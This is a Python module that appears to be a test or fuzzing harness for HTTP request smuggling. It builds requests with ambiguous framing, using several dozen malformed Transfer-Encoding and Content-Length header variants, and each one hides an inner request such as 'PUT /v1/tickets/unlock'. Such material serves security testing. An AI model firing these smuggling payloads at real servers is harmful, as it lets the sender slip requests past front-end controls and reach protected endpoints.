"""Forms of request smuggling: a request with an ambiguous end that contains another one.

A form is the rest of a head and a body. In both, `<inner>` is the smuggled request, `<all>` the
size of the whole body, `<body>` that of BODY. `<inner-size>` and `<all-size>` are in hexadecimal.
"""

from collections.abc import Iterator
from typing import NamedTuple

BODY = b'{"tokens": ["unknown-1"]}'
LAST_CHUNK = b"0\r\n\r\n"
AS_CHUNK = b"<inner-size>\r\n<inner>\r\n" + LAST_CHUNK
UNLOCK_LINE = b"PUT /v1/tickets/unlock HTTP/1.1"
CHUNKED = b"Transfer-Encoding: chunked"
LENGTH_OF_ALL = b"Content-Length: <all>"
LENGTH_OF_BODY = b"Content-Length: <body>"


class Form(NamedTuple):
    """One form. `lines`: the headers about framing, unchanged. `first_line`: the request line.

    `reaches`: by RFC 9112 the inner request is a request of its own, and a server that is sent the
    form itself may serve it, or refuse what is before it.
    """

    name: str
    lines: bytes
    body: bytes
    first_line: bytes = UNLOCK_LINE
    reaches: bool = False

    def sent(self, headers: bytes, inner: bytes) -> bytes:
        """All bytes of it. `headers`: those that every request has, with their line ends."""
        body = self.body.replace(b"<inner-size>", b"%x" % len(inner)).replace(b"<inner>", inner)
        lines = self.lines.replace(b"<all>", b"%d" % len(body))
        lines = lines.replace(b"<body>", b"%d" % len(BODY)).replace(
            b"<all-size>", b"%x" % len(body)
        )
        lines += b"\r\n" if lines else b""
        return self.first_line + b"\r\n" + headers + lines + b"\r\n" + body


CODINGS = {
    "space before the colon": b"Transfer-Encoding : chunked",
    "tab before the colon": b"Transfer-Encoding\t: chunked",
    "tab behind the colon": b"Transfer-Encoding:\tchunked",
    "no space": b"Transfer-Encoding:chunked",
    "space at the end": b"Transfer-Encoding: chunked ",
    "vertical tab": b"Transfer-Encoding:\x0bchunked",
    "vertical tab behind": b"Transfer-Encoding: chunked\x0b",
    "form feed": b"Transfer-Encoding: \x0cchunked",
    "NUL before": b"Transfer-Encoding: \0chunked",
    "NUL behind": b"Transfer-Encoding: chunked\0",
    "NUL in the name": b"Transfer-Encoding\0: chunked",
    "DEL": b"Transfer-Encoding: \x7fchunked",
    "no-break space": b"Transfer-Encoding: \xa0chunked",
    "capitals": b"TRANSFER-ENCODING: CHUNKED",
    "quotes": b'Transfer-Encoding: "chunked"',
    "single quotes": b"Transfer-Encoding: 'chunked'",
    "parameter": b"Transfer-Encoding: chunked;q=1",
    "comma behind": b"Transfer-Encoding: chunked,",
    "comma before": b"Transfer-Encoding: ,chunked",
    "twice in a list": b"Transfer-Encoding: chunked, chunked",
    "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "identity before": b"Transfer-Encoding: identity, chunked",
    "identity behind": b"Transfer-Encoding: chunked, identity",
    "another before": b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "another behind": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "gzip before": b"Transfer-Encoding: gzip, chunked",
    "xchunked": b"Transfer-Encoding: xchunked",
    "chunkedx": b"Transfer-Encoding: chunkedx",
    "chunk": b"Transfer-Encoding: chunk",
    "identity": b"Transfer-Encoding: identity",
    "nothing": b"Transfer-Encoding:",
    "fold": b"Transfer-Encoding:\r\n chunked",
    "fold within": b"Transfer-Encoding: chu\r\n nked",
    "folded line before": b"X: y\r\n Transfer-Encoding: chunked",
    "fold with LF": b"Transfer-Encoding:\n chunked",
    "LF before": b"X: y\nTransfer-Encoding: chunked",
    "LF behind": b"Transfer-Encoding: chunked\nX: y",
    "CR before": b"X: y\rTransfer-Encoding: chunked",
    "CR behind": b"Transfer-Encoding: chunked\r\rX: y",
    "CR after the line": b"X: y\r\n\rTransfer-Encoding: chunked",
    "LF in the name": b"Transfer-Encoding\n: chunked",
    "space first": b" Transfer-Encoding: chunked",
    "underscore": b"Transfer_Encoding: chunked",
    "byte before the name": b"\xefTransfer-Encoding: chunked",
    "no colon": b"Transfer-Encoding chunked",
    "Content-Encoding": b"Content-Encoding: chunked",
    "X-Transfer-Encoding": b"X-Transfer-Encoding: chunked",
    "TE": b"TE: chunked",
}
"""Headers that a server may, or may not, read as `Transfer-Encoding: chunked`."""

ALONE_IT_IS_CHUNKED = {
    *("tab behind the colon", "no space", "space at the end", "capitals", "comma behind"),
    *("comma before", "identity before", "another before", "gzip before"),
}

LENGTHS = {
    "zeros before": (b"Content-Length: 000<body>", True),
    "space behind": (b"Content-Length: <body> ", True),
    "tab": (b"Content-Length:\t<body>", True),
    "twice the same": (LENGTH_OF_BODY + b"\r\n" + LENGTH_OF_BODY, True),
    "twice in a list": (b"Content-Length: <body>, <body>", True),
    "short, then long": (LENGTH_OF_BODY + b"\r\n" + LENGTH_OF_ALL, False),
    "long, then short": (LENGTH_OF_ALL + b"\r\n" + LENGTH_OF_BODY, False),
    "short, long in a list": (b"Content-Length: <body>, <all>", False),
    "plus": (b"Content-Length: +<body>", False),
    "minus": (b"Content-Length: -<body>", False),
    "hexadecimal": (b"Content-Length: 0x<all-size>", False),
    "underscore in the number": (b"Content-Length: <body>_0", False),
    "space in the number": (b"Content-Length: <body> 0", False),
    "fraction": (b"Content-Length: <body>.0", False),
    "exponent": (b"Content-Length: 1e2", False),
    "semicolon": (b"Content-Length: <body>;", False),
    "nothing": (b"Content-Length:", False),
    "nothing, then long": (b"Content-Length:\r\n" + LENGTH_OF_ALL, False),
    "over 32 bits": (b"Content-Length: 4294967321", False),
    "over 64 bits": (b"Content-Length: 18446744073709551641", False),
    "vertical tab": (b"Content-Length: \x0b<body>", False),
    "NUL": (b"Content-Length: <body>\0", False),
    "Arabic digits": (b"Content-Length: \xd9\xa2\xd9\xa5", False),
    "space before the colon": (b"Content-Length : <body>", False),
    "space first, then long": (b" Content-Length: <body>\r\n" + LENGTH_OF_ALL, False),
    "underscore in the name": (b"Content_Length: <body>\r\n" + LENGTH_OF_ALL, False),
    "fold": (b"Content-Length:\r\n <body>", False),
    "fold of two": (b"Content-Length: <body>\r\n 0\r\nX: y", False),
    "LF hides another": (b"X: y\nContent-Length: <body>\r\n" + LENGTH_OF_ALL, False),
    "CR hides another": (b"X: y\rContent-Length: <body>\r\n" + LENGTH_OF_ALL, False),
    "named by Connection": (LENGTH_OF_ALL + b"\r\nConnection: Content-Length", False),
}
"""Headers that a server may, or may not, read as the size of BODY; and whether it must."""


def forms_of_length() -> Iterator[Form]:
    """The forms with contradictory Content-Length and Transfer-Encoding."""
    yield Form("plain: behind a body", LENGTH_OF_BODY, BODY + b"<inner>", reaches=True)
    chunks = b"19\r\n" + BODY + b"\r\n" + LAST_CHUNK + b"<inner>"
    yield Form("plain: behind chunks", CHUNKED, chunks, reaches=True)
    yield Form("plain: within a body", LENGTH_OF_ALL, b"<inner>")
    yield Form("plain: within a chunk", CHUNKED, AS_CHUNK)
    for length in (b"<all>", b"5", b"4", b"0"):
        both = (b"Content-Length: " + length, CHUNKED)
        name = f"Content-Length {length.decode()} and chunks"
        yield Form(f"{name}, behind", b"\r\n".join(both), LAST_CHUNK + b"<inner>")
        yield Form(f"{name}, within", b"\r\n".join(both), AS_CHUNK)
        yield Form(f"{name}, turned round", b"\r\n".join(both[::-1]), LAST_CHUNK + b"<inner>")
    for name, coding in CODINGS.items():
        body = LAST_CHUNK + b"<inner>"
        yield Form(f"coding with a length: {name}", coding + b"\r\n" + LENGTH_OF_ALL, body)
        is_chunked = name in ALONE_IT_IS_CHUNKED
        yield Form(f"coding alone: {name}", coding, body, reaches=is_chunked)
    for name, (length, reaches) in LENGTHS.items():
        yield Form(f"length: {name}", length, BODY + b"<inner>", reaches=reaches)
